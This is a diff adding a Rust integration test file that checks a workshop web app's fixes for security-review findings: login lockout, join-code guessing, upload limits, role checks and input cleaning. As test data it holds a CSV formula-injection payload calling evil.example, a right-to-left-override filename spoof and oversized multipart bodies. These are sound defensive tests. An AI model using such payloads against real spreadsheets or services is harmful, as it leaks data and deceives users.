@@ -1,0 +1,580 @@
+//! Issue 16, "ready for the open street", over real HTTP: each finding of the issue as
+//! a test that failed before its fix. Client addresses are named in `X-Forwarded-For`
+//! behind a trusted proxy on 127.0.0.1, so one test plays many networks.
+mod support;
+
+use reqwest::{header, Client, StatusCode};
+use samskap_app::error::{AppError, Field};
+use samskap_app::server::throttle::{CODE_FAILURES_BURST, LOGIN_FAILURES_PER_EMAIL_AND_NETWORK};
+use samskap_server::demo::DEMO_JOIN_CODE;
+use samskap_server::limits::{MAX_FORM_BYTES, MAX_UPLOAD_BODY_BYTES};
+use std::time::{Duration, Instant};
+use support::board::{board_json, board_workshop, join, post, refused};
+use support::http::*;
+use uuid::Uuid;
+
+const LEAD: &str = "leder@halden.demo";
+const FACILITATOR: &str = "fasilitator@halden.demo";
+const VIEWER: &str = "styringsgruppe@halden.demo";
+
+async fn signed_in(base: &str, email: &str) -> Client {
+    let c = client();
+    login(&c, base, email).await;
+    c
+}
+
+/// Joins the demo workshop from `address` as `nickname`; the status and body.
+async fn join_from(
+    phone: &Client,
+    base: &str,
+    address: &str,
+    nickname: &str,
+) -> (StatusCode, String) {
+    call_from(
+        phone,
+        base,
+        address,
+        "join/join",
+        &[
+            ("code", DEMO_JOIN_CODE),
+            ("nickname", nickname),
+            ("consent", "yes"),
+        ],
+    )
+    .await
+}
+
+/// Finding 6: five wrong passwords from anywhere locked the real lead out.
+#[tokio::test]
+async fn wrong_passwords_elsewhere_do_not_lock_the_lead_out() {
+    let (_db, base, _stop, _task) = demo_server_behind_proxy().await;
+    let attacker = client();
+    let wrong = [("email", LEAD), ("password", "gjetting-123456")];
+    for _ in 0..LOGIN_FAILURES_PER_EMAIL_AND_NETWORK {
+        let (status, body) = call_from(&attacker, &base, "203.0.113.5", "auth/login", &wrong).await;
+        assert_eq!(
+            (status, error_of(&body)),
+            (StatusCode::UNAUTHORIZED, AppError::InvalidCredentials)
+        );
+    }
+    refused(
+        call_from(&attacker, &base, "203.0.113.5", "auth/login", &wrong).await,
+        StatusCode::TOO_MANY_REQUESTS,
+        AppError::TooManyAttempts,
+    );
+    // The same from many other addresses: the lead's email is slowed, never refused.
+    for i in 0..12 {
+        let address = format!("198.18.{i}.1");
+        let (status, _) = call_from(&attacker, &base, &address, "auth/login", &wrong).await;
+        assert_eq!(status, StatusCode::UNAUTHORIZED, "from {address}");
+    }
+    let lead = client();
+    let started = Instant::now();
+    let (status, body) = call_from(
+        &lead,
+        &base,
+        "192.0.2.10",
+        "auth/login",
+        &[("email", LEAD), ("password", PASSWORD)],
+    )
+    .await;
+    assert!(
+        status.is_success() || status.is_redirection(),
+        "the real lead signs in from their own network: {status} {body}"
+    );
+    assert!(started.elapsed() < Duration::from_secs(10));
+}
+
+/// Finding 8: 100 phones behind one address, 40 got 429. Now 300 join within a minute,
+/// while wrong codes from one network are throttled (and from its /64 in IPv6).
+#[tokio::test]
+async fn a_room_of_300_behind_one_address_joins_while_guessing_is_throttled() {
+    let (_db, base, _stop, _task) = demo_server_behind_proxy().await;
+    let school = "84.210.10.20";
+    let started = Instant::now();
+    let mut phones = Vec::new();
+    for i in 0..300 {
+        let base = base.clone();
+        phones.push(tokio::spawn(async move {
+            let phone = client();
+            let (status, body) = call_from(
+                &phone,
+                &base,
+                school,
+                "join/lookup",
+                &[("code", DEMO_JOIN_CODE)],
+            )
+            .await;
+            assert_eq!(status, StatusCode::OK, "lookup {i}: {body}");
+            join_from(&phone, &base, school, &format!("Elev {i}")).await
+        }));
+    }
+    let mut joined = 0;
+    for phone in phones {
+        let (status, body) = phone.await.unwrap();
+        assert_eq!(status, StatusCode::OK, "{body}");
+        joined += 1;
+    }
+    let took = started.elapsed();
+    assert_eq!(joined, 300);
+    assert!(took < Duration::from_secs(60), "300 joins took {took:?}");
+    println!("300 phones from one address joined in {took:?}");
+
+    // Guessing codes: a burst of wrong ones, then every lookup from there is refused,
+    // the right code included, while the school next door is not affected.
+    let guesser = client();
+    let guess = |address: &'static str, code: &'static str| {
+        let (guesser, base) = (guesser.clone(), base.clone());
+        async move { call_from(&guesser, &base, address, "join/lookup", &[("code", code)]).await }
+    };
+    for _ in 0..CODE_FAILURES_BURST {
+        refused(
+            guess("2001:db8:7:7::1", "ABCD2345").await,
+            StatusCode::NOT_FOUND,
+            AppError::JoinCodeInvalid,
+        );
+    }
+    refused(
+        guess("2001:db8:7:7:ffff::2", "ABCD2346").await,
+        StatusCode::TOO_MANY_REQUESTS,
+        AppError::TooManyAttempts,
+    );
+    refused(
+        guess("2001:db8:7:7::3", DEMO_JOIN_CODE).await,
+        StatusCode::TOO_MANY_REQUESTS,
+        AppError::TooManyAttempts,
+    );
+    let (status, _) = guess("2001:db8:7:8::1", DEMO_JOIN_CODE).await;
+    assert_eq!(status, StatusCode::OK, "another /64 is another network");
+    let (status, _) = guess(school, DEMO_JOIN_CODE).await;
+    assert_eq!(status, StatusCode::OK);
+}
+
+/// A workshop's participant cap, and the facilitator's count of joins per minute.
+#[tokio::test]
+async fn a_capped_workshop_turns_the_next_phone_away() {
+    let (_db, base, _stop, _task) = demo_server().await;
+    let staff = signed_in(&base, FACILITATOR).await;
+    let (board, _) = join(&client(), &base, "Første").await;
+    let workshop = board_workshop(&staff, &base, board).await;
+    let (_, body) = call(&staff, &base, "workshops/get", &[("id", &workshop)]).await;
+    let page: serde_json::Value = serde_json::from_str(&body).unwrap();
+    let (all, last_minute) = (
+        page["joined"][0].as_u64().unwrap(),
+        page["joined"][1].as_u64().unwrap(),
+    );
+    assert!(last_minute >= 1 && all >= last_minute, "{body}");
+    for bad in ["0", "-3", "tusen"] {
+        let (status, body) = call(
+            &staff,
+            &base,
+            "workshops/moderation",
+            &[
+                ("id", &workshop),
+                ("report_threshold", "3"),
+                ("participant_cap", bad),
+            ],
+        )
+        .await;
+        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{bad}: {body}");
+    }
+    let cap = (all + 1).to_string();
+    let (status, body) = call(
+        &staff,
+        &base,
+        "workshops/moderation",
+        &[
+            ("id", &workshop),
+            ("report_threshold", "3"),
+            ("participant_cap", &cap),
+        ],
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    join(&client(), &base, "Siste").await;
+    let late = client();
+    let (status, body) = call(
+        &late,
+        &base,
+        "join/join",
+        &[("code", DEMO_JOIN_CODE), ("consent", "yes")],
+    )
+    .await;
+    assert_eq!(
+        (status, error_of(&body)),
+        (StatusCode::CONFLICT, AppError::WorkshopFull)
+    );
+}
+
+/// Finding 4: three anonymous joins hid the facilitator's card, and after a restore one
+/// repeated report hid it again.
+#[tokio::test]
+async fn reports_cannot_hide_staff_cards_and_a_restore_starts_over() {
+    let (_db, base, _stop, _task) = demo_server().await;
+    let staff = signed_in(&base, FACILITATOR).await;
+    let (board, _) = join(&client(), &base, "Forfatter").await;
+    let (status, body) = post(&staff, &base, board, "insight", "Fra fasilitatoren").await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let staff_card: samskap_app::workshop::model::Card = serde_json::from_str(&body).unwrap();
+    assert!(staff_card.author.staff);
+    let author = client();
+    join(&author, &base, "Mina").await;
+    let (_, body) = post(&author, &base, board, "insight", "Fra Mina").await;
+    let card: samskap_app::workshop::model::Card = serde_json::from_str(&body).unwrap();
+
+    let mut reporters = Vec::new();
+    for i in 0..3 {
+        let phone = client();
+        join(&phone, &base, &format!("R{i}")).await;
+        for id in [staff_card.id, card.id] {
+            let (status, body) = call(
+                &phone,
+                &base,
+                "cards/report",
+                &[("card_id", &id.to_string())],
+            )
+            .await;
+            assert_eq!(status, StatusCode::OK, "{body}");
+        }
+        reporters.push(phone);
+    }
+    let status_of = |board_json: &serde_json::Value, id: Uuid| {
+        board_json["cards"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|c| c["id"] == id.to_string())
+            .map(|c| c["status"].as_str().unwrap().to_string())
+    };
+    let seen = board_json(&staff, &base, board).await;
+    assert_eq!(status_of(&seen, staff_card.id).as_deref(), Some("visible"));
+    assert_eq!(status_of(&seen, card.id).as_deref(), Some("hidden"));
+
+    let (status, _) = call(
+        &staff,
+        &base,
+        "cards/restore",
+        &[("card_id", &card.id.to_string())],
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    let (status, _) = call(
+        &reporters[0],
+        &base,
+        "cards/report",
+        &[("card_id", &card.id.to_string())],
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    let seen = board_json(&staff, &base, board).await;
+    assert_eq!(
+        status_of(&seen, card.id).as_deref(),
+        Some("visible"),
+        "one report after the restore is one report"
+    );
+}
+
+/// Finding 5: a card's formula went into the evaluation CSV as it was.
+#[tokio::test]
+async fn formulas_are_neutralised_in_every_csv() {
+    let (_db, base, _stop, _task) = demo_server().await;
+    let staff = signed_in(&base, FACILITATOR).await;
+    let phone = client();
+    let (board, _) = join(&phone, &base, "Eva").await;
+    let evil = r#"=HYPERLINK("https://evil.example/?"&C3,"Klikk")"#;
+    for text in [evil, "+1+1", "@SUM(A1)", "-2+3"] {
+        let (status, body) = post(&phone, &base, board, "insight", text).await;
+        assert_eq!(status, StatusCode::OK, "{body}");
+    }
+    let workshop = board_workshop(&staff, &base, board).await;
+    let csv = staff
+        .get(format!("{base}/workshops/{workshop}/evaluation.csv"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let texts: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap().get(6).unwrap().to_string())
+        .collect();
+    for text in [evil, "+1+1", "@SUM(A1)", "-2+3"] {
+        assert!(texts.contains(&format!("'{text}")), "{text} in {texts:?}");
+    }
+    assert!(
+        texts.iter().all(|t| !t.starts_with(['=', '+', '-', '@'])),
+        "{texts:?}"
+    );
+
+    // Staff text in the plan's open data: the lead edits a measure's title.
+    let lead = signed_in(&base, LEAD).await;
+    let plan = lead
+        .get(format!("{base}/plans/2025/export.csv"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(plan.status(), StatusCode::OK);
+    let plan = plan.text().await.unwrap();
+    for line in plan.lines().skip(1) {
+        for cell in line.split(',') {
+            assert!(!cell.starts_with(['=', '+', '@']), "{line}");
+        }
+    }
+}
+
+/// Finding 1: an unauthenticated multipart body of small fields was read whole.
+#[tokio::test]
+async fn uploads_are_bounded_before_their_body_is_read() {
+    let (_db, base, _stop, _task) = demo_server().await;
+    let http = client();
+    let url = format!("{base}/api/photos/card");
+    // Declared too large: refused from the header alone.
+    let response = http
+        .post(&url)
+        .header(header::CONTENT_TYPE, "multipart/form-data; boundary=x")
+        .header(
+            header::CONTENT_LENGTH,
+            (MAX_UPLOAD_BODY_BYTES + 1).to_string(),
+        )
+        .body(vec![b'a'; 16])
+        .send()
+        .await;
+    if let Ok(response) = response {
+        assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
+        let err: AppError = serde_json::from_str(&response.text().await.unwrap()).unwrap();
+        assert!(matches!(err, AppError::RequestTooLarge(_)));
+    }
+    // Thousands of small fields: refused after the first few, unauthenticated.
+    let mut body = String::new();
+    for i in 0..20_000 {
+        body.push_str(&format!(
+            "--x\r\nContent-Disposition: form-data; name=\"f{i}\"\r\n\r\nabc\r\n"
+        ));
+    }
+    body.push_str("--x--\r\n");
+    let started = Instant::now();
+    let response = http
+        .post(&url)
+        .header(header::CONTENT_TYPE, "multipart/form-data; boundary=x")
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+    assert!(started.elapsed() < Duration::from_secs(5));
+    // The photo field before the id: nobody is asked, nothing read.
+    let body = "--x\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"a.png\"\r\n\r\nPNG\r\n--x--\r\n";
+    let response = http
+        .post(&url)
+        .header(header::CONTENT_TYPE, "multipart/form-data; boundary=x")
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    let status = response.status();
+    let err: AppError = serde_json::from_str(&response.text().await.unwrap()).unwrap();
+    assert_eq!(
+        (status, err),
+        (StatusCode::BAD_REQUEST, AppError::BadRequest)
+    );
+    // A card id but no participant: refused before the photo's bytes are read.
+    let body = format!(
+        "--x\r\nContent-Disposition: form-data; name=\"card_id\"\r\n\r\n{}\r\n--x\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"a.png\"\r\n\r\n{}\r\n--x--\r\n",
+        Uuid::new_v4(),
+        "P".repeat(1024)
+    );
+    let response = http
+        .post(&url)
+        .header(header::CONTENT_TYPE, "multipart/form-data; boundary=x")
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::NOT_FOUND);
+    // Finding 9: a quoted, empty boundary used to panic the request's task.
+    for content_type in [
+        "multipart/form-data; boundary=\"",
+        "multipart/form-data; boundary=\"\"",
+        "multipart/form-data; xboundary=1",
+    ] {
+        let response = http
+            .post(&url)
+            .header(header::CONTENT_TYPE, content_type)
+            .body("--\r\n")
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{content_type}");
+    }
+    // Every other request is capped at the form size.
+    let big = "x".repeat(MAX_FORM_BYTES);
+    let (status, body) = call(&http, &base, "join/lookup", &[("code", &big)]).await;
+    assert_eq!(
+        (status, error_of(&body)),
+        (
+            StatusCode::PAYLOAD_TOO_LARGE,
+            AppError::RequestTooLarge(MAX_FORM_BYTES / 1024)
+        )
+    );
+    let (status, _) = call(&http, &base, "join/lookup", &[("code", DEMO_JOIN_CODE)]).await;
+    assert_eq!(status, StatusCode::OK, "the server is fine afterwards");
+}
+
+/// Finding 9: names and texts kept bidi overrides and control characters; a
+/// participant could take a facilitator's name.
+#[tokio::test]
+async fn names_and_texts_are_cleaned_and_staff_names_reserved() {
+    let (_db, base, _stop, _task) = demo_server().await;
+    let phone = client();
+    for taken in ["Fasilitator", "ADMIN"] {
+        let (status, body) = call(
+            &phone,
+            &base,
+            "join/join",
+            &[
+                ("code", DEMO_JOIN_CODE),
+                ("consent", "yes"),
+                ("nickname", taken),
+            ],
+        )
+        .await;
+        assert_eq!(
+            (status, error_of(&body)),
+            (StatusCode::UNPROCESSABLE_ENTITY, AppError::NameReserved),
+            "{taken}"
+        );
+    }
+    let staff = signed_in(&base, FACILITATOR).await;
+    let (_, me) = call(&staff, &base, "auth/me", &[]).await;
+    let me: serde_json::Value = serde_json::from_str(&me).unwrap();
+    let name = me["display_name"].as_str().unwrap().to_uppercase();
+    let (status, body) = call(
+        &phone,
+        &base,
+        "join/join",
+        &[
+            ("code", DEMO_JOIN_CODE),
+            ("consent", "yes"),
+            ("nickname", &name),
+        ],
+    )
+    .await;
+    assert_eq!(
+        (status, error_of(&body)),
+        (StatusCode::UNPROCESSABLE_ENTITY, AppError::NameReserved),
+        "{name}"
+    );
+    let (status, body) = call(
+        &phone,
+        &base,
+        "join/join",
+        &[
+            ("code", DEMO_JOIN_CODE),
+            ("consent", "yes"),
+            ("nickname", "Ali\u{202E}gnp.exe"),
+        ],
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let board = support::board::lookup(&phone, &base, DEMO_JOIN_CODE)
+        .await
+        .boards[0]
+        .0;
+    let (status, body) = post(
+        &phone,
+        &base,
+        board,
+        "insight",
+        "Hei\u{0}\u{202E}du\u{200B}",
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let card: samskap_app::workshop::model::Card = serde_json::from_str(&body).unwrap();
+    assert_eq!(card.body, "Heidu");
+    assert_eq!(card.author.name, "Alignp.exe");
+    let (status, body) = post(&phone, &base, board, "insight", "\u{202E}\u{200B}").await;
+    assert_eq!(
+        (status, error_of(&body)),
+        (
+            StatusCode::UNPROCESSABLE_ENTITY,
+            AppError::Empty(Field::Text)
+        )
+    );
+}
+
+/// Finding 9: a viewer made facilitator hid cards; a closed workshop took reports and
+/// feedback.
+#[tokio::test]
+async fn a_viewer_cannot_facilitate_and_a_closed_workshop_takes_no_reports() {
+    let (_db, base, _stop, _task) = demo_server().await;
+    let lead = signed_in(&base, LEAD).await;
+    let viewer = signed_in(&base, VIEWER).await;
+    let (_, me) = call(&viewer, &base, "auth/me", &[]).await;
+    let viewer_id = serde_json::from_str::<serde_json::Value>(&me).unwrap()["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let phone = client();
+    let (board, _) = join(&phone, &base, "Tor").await;
+    let reporter = client();
+    join(&reporter, &base, "Siv").await;
+    let workshop = board_workshop(&lead, &base, board).await;
+    let (_, body) = call(&lead, &base, "workshops/get", &[("id", &workshop)]).await;
+    let page: serde_json::Value = serde_json::from_str(&body).unwrap();
+    let fields = &page["workshop"]["fields"];
+    let starts_at = fields["starts_at"].as_str().unwrap()[..16].to_string();
+    let (status, body) = call(
+        &lead,
+        &base,
+        "workshops/update",
+        &[
+            ("id", &workshop),
+            ("title", fields["title"].as_str().unwrap()),
+            ("place", fields["place"].as_str().unwrap()),
+            ("starts_at", &starts_at),
+            ("facilitators[0]", &viewer_id),
+        ],
+    )
+    .await;
+    assert_eq!(
+        (status, error_of(&body)),
+        (StatusCode::NOT_FOUND, AppError::NotFound),
+        "a read-only role is no facilitator"
+    );
+    let (_, body) = post(&phone, &base, board, "insight", "Benker i parken").await;
+    let card: samskap_app::workshop::model::Card = serde_json::from_str(&body).unwrap();
+    refused(
+        call(
+            &viewer,
+            &base,
+            "cards/hide",
+            &[("card_id", &card.id.to_string()), ("reason", "x")],
+        )
+        .await,
+        StatusCode::FORBIDDEN,
+        AppError::Forbidden,
+    );
+
+    let (status, _) = call(
+        &lead,
+        &base,
+        "workshops/status",
+        &[("id", &workshop), ("status", "closed")],
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    // Joined before the close: a participant of a closed workshop reports a card.
+    refused(
+        call(
+            &reporter,
+            &base,
+            "cards/report",
+            &[("card_id", &card.id.to_string())],
+        )
+        .await,
+        StatusCode::CONFLICT,
+        AppError::WorkshopNotLive,
+    );
+}
